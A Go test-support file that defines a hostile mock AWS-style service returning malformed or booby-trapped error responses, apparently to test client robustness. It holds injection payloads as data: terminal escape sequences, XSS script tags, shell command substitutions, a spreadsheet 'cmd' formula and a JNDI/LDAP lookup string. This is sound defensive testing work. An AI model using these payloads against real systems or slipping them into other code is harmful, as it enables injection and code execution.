package hostile

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
)

// body answers an error with such a body.
func body(text string) Behaviour {
	return always(fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", refusal, len(text), text))
}

// message answers an error whose every field says the same, headers included.
func message(text string) Behaviour {
	quoted, _ := json.Marshal(text) // strings can be marshalled
	b := fmt.Sprintf(`{"__type":%s,"code":%s,"message":%s,%s:%s}`, quoted, quoted, quoted, quoted, quoted)
	line := strings.NewReplacer("\r", "", "\n", "", "\x00", "").Replace(text)
	return always(fmt.Sprintf("HTTP/1.1 400 %s\r\nContent-Type: %s\r\nX-Amzn-ErrorType: %s\r\nX-Amzn-RequestId: "+
		"%s\r\nContent-Length: %d\r\n\r\n%s", line, line, line, line, len(b), b))
}

// Content that harms whoever shows it, or reads it carelessly.
var (
	// InvalidUTF8 has a message that is no UTF-8.
	InvalidUTF8 = body("{\"__type\":\"ValidationException\",\"message\":\"\xff\xfe\xc0\xaf\xed\xa0\x80\"}")
	// NULs has NUL in its message, escaped and raw, and in a header.
	NULs = always(refusal + "X-Nul: a\x00b\r\nContent-Length: " +
		"61\r\n\r\n{\"__type\":\"ValidationException\",\"message\":\"a\\u0000b\x00c\x00d\x00e\"}")
	// DeepJSON nests a hundred thousand arrays in its error.
	DeepJSON = body(`{"__type":"ValidationException","deep":` + strings.Repeat("[", 100_000) + strings.Repeat("]",
		100_000) + `}`)
	// WideJSON has a hundred thousand members in its error.
	WideJSON = body(`{"__type":"Strange"` + strings.Repeat(`,"a":1`, 100_000) + `}`)
	// LongMessage has a message that just fits.
	LongMessage = body(`{"__type":"Strange","message":"` + strings.Repeat("m", 1<<20-100) + `"}`)
	// TerminalEscapes would clear the screen, set its title and write to the clipboard.
	TerminalEscapes = message("\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\u009b31m\u202etxt.exe")
	// Script would run in a browser.
	Script = message(`"><script>alert(1)</script><img src=x onerror=alert(2)>]]>&#60;script`)
	// Commands would run in a shell, a log of CI or a spreadsheet.
	Commands = message("$(touch pwned) `touch pwned` '; touch pwned # ::error::pwned ##vso[task.complete] " +
		"=cmd|'/c calc'!A1")
	// Formats would be taken for a format.
	Formats = message("%s%s%n%d%!(EXTRA) {{.}} ${jndi:ldap://192.0.2.1/a}")
	// ManyTypes names different errors wherever one may stand.
	ManyTypes = always(refusal + "X-Amzn-ErrorType: JobNotFoundException\r\nX-Amzn-ErrorType: " +
		"Other\r\nContent-Length: 74\r\n\r\n" +
		`{"__type":"ValidationException","code":"InvalidJobStateException","a":"b"}`)
	// ManyContentTypes has three content types.
	ManyContentTypes = always("HTTP/1.1 400 Bad Request\r\nContent-Type: text/html\r\nContent-Type: " +
		"application/x-amz-json-1.1\r\nContent-Type: \x01\r\nContent-Length: 47\r\n\r\n" + right)
	// FoldedHeader continues a header on the next line, as was allowed once.
	FoldedHeader = always("HTTP/1.1 400 Bad Request\r\nContent-Type: application/\r\n " +
		"x-amz-json-1.1\r\nContent-Length: 47\r\n\r\n" + right)
)

// ThrottlesSome refuses each request three times before it takes it.
func ThrottlesSome() Behaviour {
	return func(c *Conn, r *http.Request, body string) bool {
		if c.target.again(body) <= 3 {
			return throttled(c, r, body)
		}
		return properly(c, r, body)
	}
}

// throttled is the answer of a service that is asked too often.
var throttled = body(`{"__type":"ThrottlingException","message":"Rate exceeded"}`)
